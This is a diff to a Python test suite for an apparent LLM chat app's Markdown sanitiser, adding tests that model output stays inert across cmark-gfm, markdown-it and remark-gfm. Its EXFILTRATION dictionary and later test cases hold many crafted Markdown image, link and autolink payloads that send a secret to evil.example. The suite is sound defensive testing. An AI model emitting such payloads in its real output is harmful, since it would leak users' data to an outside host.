@@ -1,9 +1,12 @@
 """Model text rendered so that nothing in it loads: every exfiltration variant, whole and streamed.
 
-What is checked is what a Markdown renderer makes of the output: it is parsed
+What is checked is what Markdown renderers make of the output: it is parsed
 again (CommonMark with raw HTML allowed, GFM tables and strikethrough) and no
 image, link or HTML may come out of it, and the rendered HTML must not hold an
-address a browser would fetch or follow.
+address a browser would fetch or follow. Three GFM renderers must agree that it
+is inert (tests/app/markdown_renderers.py): cmark-gfm, markdown-it with
+linkify, and remark-gfm's autolink search, which links addresses even through
+backslash escapes.
 """
 
 from __future__ import annotations
@@ -16,7 +19,8 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from gpt4all_rag.markdown import code_span, escape_text, safe_markdown
+from gpt4all_rag.markdown import code_span, escape_text, is_inert, safe_markdown
+from tests.app.markdown_renderers import cmark_gfm, live_parts, remark_autolinks
 
 # The renderer an attacker would hope for: raw HTML on, tables and strikethrough.
 RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
@@ -53,6 +57,43 @@ EXFILTRATION = {
     "data url": "![x](data:image/png;base64,iVBORw0KGgo=)",
     "math": "$\\href{https://evil.example/}{x}$ and $$\\includegraphics{https://evil.example}$$",
     "streamlit directive": ":red[x] :material/home: ![x](https://evil.example/q)",
+    # Issue 21 item 1: an address, then a code span; the two spans' fences merged.
+    "mail then code": f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``",
+    "url then code": f"See https://e.x/``x`![y](http://evil.example/?q={SECRET})``",
+    "www then code": f"www.e.x`````a````![x](http://evil.example/?q={SECRET})`````",
+    "code then mail": f"``![x](http://evil.example/?q={SECRET})`b``a@e.x",
+    "link label is the code": f"[`x`](`x`)``![x](http://evil.example/?q={SECRET})``",
+    # Issue 21 item 4: GFM takes `_` for punctuation before an address; Python's \b does not.
+    "underscore http": f"_http://evil.example/?q={SECRET}",
+    "underscore www": f"x_www.evil.example/?q={SECRET}",
+    "underscore www heading": f"# x_www.evil.example/?q={SECRET}",
+    "underscore in cell": f"| a |\n|---|\n| x_www.evil.example/?q={SECRET} |",
+    "bare www": "see www. and WWW.evil.example now",
+    "digit http": f"1http://evil.example/?q={SECRET}",
+    # Found by the fuzzing: cmark-gfm links an address whose domain starts with a dot, and
+    # finds e-mail addresses through backslash escapes.
+    "dot domain email": f"?q={SECRET}x@.evil.example#/",
+    "escaped email": f"{SECRET}\\@evil\\.example",
+    # Beyond the issue's list.
+    "entity backticks": f"Mail a@e.x&#96;&#96;b&#96;![x](http://evil.example/?q={SECRET})&#96;&#96;",
+    "entity www": f"w&#119;w&#46;evil.example/?q={SECRET} and a&#64;evil.example",
+    "reference over lines": f"![x][r]\n\n[r]:\n  http://evil.example/?q={SECRET}\n  'title'",
+    "definition first": f"[r]: http://evil.example/?q={SECRET}\n\n![x][r] [r]",
+    "nested brackets": f"[[![x](http://evil.example/?q={SECRET})]](http://e.x/) ![a [b] c](http://e.x/)",
+    "code in link text": f"[a@e.x`b`](http://evil.example/?q={SECRET})``![x](http://e.x/)``",
+    "backslash line end": f"a@e.x\\\n![x](http://evil.example/?q={SECRET})\\",
+    "table pipe code": (
+        f"| a | b |\n|---|---|\n| www.e.x`|`![x](http://evil.example/?q={SECRET})` | z |"
+    ),
+    "look-alike backticks": (
+        f"a@e.x\u02cbb\u02cb![x](http://evil.example/?q={SECRET}) \uff40x\uff40"
+    ),
+    "fullwidth": (
+        f"\uff57\uff57\uff57\uff0eevil.example a\uff20evil.example ![x](http://e.x/?q={SECRET})"
+    ),
+    "crlf": (
+        f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``\r\n![x]\r\n\r\n[x]: http://e.x/\r\n"
+    ),
 }
 
 
@@ -82,7 +123,7 @@ def live_tokens(markdown: str) -> list[str]:
         if token.type in {"image", "link_open", "html_inline", "html_block"}:
             found.append(f"{token.type}: {token.content or token.attrs}")
         stack.extend(token.children or [])
-    return found
+    return found + live_parts(markdown)
 
 
 def assert_inert(markdown: str) -> None:
@@ -94,17 +135,8 @@ def prefixes(text: str) -> list[str]:
     return [text[:n] for n in range(1, len(text) + 1)]
 
 
-LIVE_AS_WRITTEN = [
-    "image", "escaped bang", "double backslash", "reference image", "collapsed reference",
-    "shortcut reference", "angle destination", "raw img", "raw img inline", "html block",
-    "svg onload", "entity encoded", "autolink", "link", "image in link", "in list", "in quote",
-    "in heading", "in table", "pipe in table code", "in emphasis", "data url",
-    "streamlit directive",
-]  # fmt: skip
-
-
 def test_the_checker_sees_the_variants_as_live_when_not_rendered() -> None:
-    assert [name for name in LIVE_AS_WRITTEN if not live_tokens(EXFILTRATION[name])] == []
+    assert [name for name, text in EXFILTRATION.items() if not live_tokens(text)] == []
 
 
 @pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
@@ -220,3 +252,107 @@ def test_no_combination_of_pieces_makes_anything_live(pieces: list[str]) -> None
 
     assert_inert(safe_markdown(text))
     assert_inert(escape_text(text))
+
+
+# What safe_markdown made of item 1's payloads before the fix (issue 21), as the review saw it.
+MERGED_FENCES = [
+    f"Mail `a@e.x```b`![x](http://evil.example/?q={SECRET})``",
+    "See `https://e.x/```x`![y](http://evil.example/)``",
+    "`www.e.x``````a````![x](http://evil.example/)`````",
+]
+
+
+@pytest.mark.parametrize("markdown", MERGED_FENCES)
+def test_the_checks_see_merged_fences_as_an_image(markdown: str) -> None:
+    assert '<img src="http://evil.example/' in cmark_gfm(markdown)
+    assert not is_inert(markdown)
+
+
+def test_an_address_next_to_code_stays_apart_from_it() -> None:
+    shown = safe_markdown(f"Mail a@e.x``b`![x](http://evil.example/?q={SECRET})``")
+
+    assert shown == f"Mail `a@e.x` ``b`![x](http://evil.example/?q={SECRET})``"
+    assert cmark_gfm(shown) == (
+        f"<p>Mail <code>a@e.x</code> <code>b`![x](http://evil.example/?q={SECRET})</code></p>\n"
+    )
+    assert cmark_gfm(safe_markdown("www.e.x`code`")) == (
+        "<p><code>www.e.x</code> <code>code</code></p>\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("_http://evil.example/?q=S", "\\_`http://evil.example/?q=S`"),
+        ("x_www.evil.example/?q=S", "x\\_`www.evil.example/?q=S`"),
+        ("# x_www.evil.example", "# x\\_`www.evil.example`"),
+        ("see www. now", "see `www`\\. now"),
+    ],
+)
+def test_an_address_after_an_underscore_is_code(text: str, shown: str) -> None:
+    # remark-gfm links these even escaped: it searches the text after unescaping.
+    assert remark_autolinks(text.replace(".", "\\.").replace("_", "\\_")) != []
+
+    assert safe_markdown(text) == shown
+    assert remark_autolinks(shown) == []
+    assert escape_text(text.removeprefix("# ")) == shown.removeprefix("# ")
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "![x](http://e.x/)",
+        "[x](http://e.x/)",
+        "<http://e.x/>",
+        "a <b>bold</b> word",
+        "<div>\nblock\n</div>",
+        "plain http://e.x/ text",
+        "www\\.evil\\.example",  # linked by remark-gfm through the escapes
+        "x\\_a\\@evil\\.example",
+        "w&#119;w.evil.example",
+        "*www*.evil.example",  # joined across markup: refused, though no renderer links it
+    ],
+)
+def test_is_inert_refuses_anything_a_renderer_could_make_live(markdown: str) -> None:
+    assert not is_inert(markdown)
+
+
+def test_is_inert_accepts_escaped_text_and_addresses_as_code() -> None:
+    assert is_inert("See `www.evil.example` and `a@e.x` \\[1\\]\\. **Bold** `code`.")
+    assert is_inert("| a |\n|---|\n| `x\\|y` |\n\n```\n![x](http://e.x/) <b>\n```")
+
+
+def test_text_the_rewrite_would_join_into_an_address_is_shown_escaped_instead() -> None:
+    # The rewrite gives "mailto\:x \(image not loaded…": the text reads "mailto:x" across
+    # two nodes. No renderer links that, but the check fails closed on it.
+    text = "mailto:![x](http://evil.example/?q=S)"
+
+    shown = safe_markdown(text)
+
+    assert shown == escape_text(text) == "`mailto:![x](http://evil.example/?q=S`\\)"
+    assert_inert(shown)
+
+
+def test_whole_words_escaped_one_by_one_join_into_the_escaped_text() -> None:
+    words = ["Mail ", "me ", "at ", "a@evil.example ", "or ", "www.evil.example/?q=S_x ", "now"]
+
+    assert "".join(escape_text(word) for word in words) == escape_text("".join(words))
+    # Parts of a word escaped one by one would join into links:
+    pieces = ["a", "@evil.example or www", ".evil.example/?q=S"]
+    assert remark_autolinks("".join(escape_text(piece) for piece in pieces)) != []
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a" * 20_000, "a1" * 10_000, "a.b" * 7_000, "a@" + "b" * 20_000, "x_" * 10_000],
+    ids=["letters", "letters-digits", "dotted", "at-then-letters", "underscores"],
+)
+def test_a_long_word_is_read_in_linear_time(text: str) -> None:
+    """A model pushed to write one endless word must not freeze the page (it took 12 s)."""
+    import time
+
+    started = time.perf_counter()
+    shown = safe_markdown(text)
+    escape_text(text)
+    assert time.perf_counter() - started < 2.0
+    assert is_inert(shown)
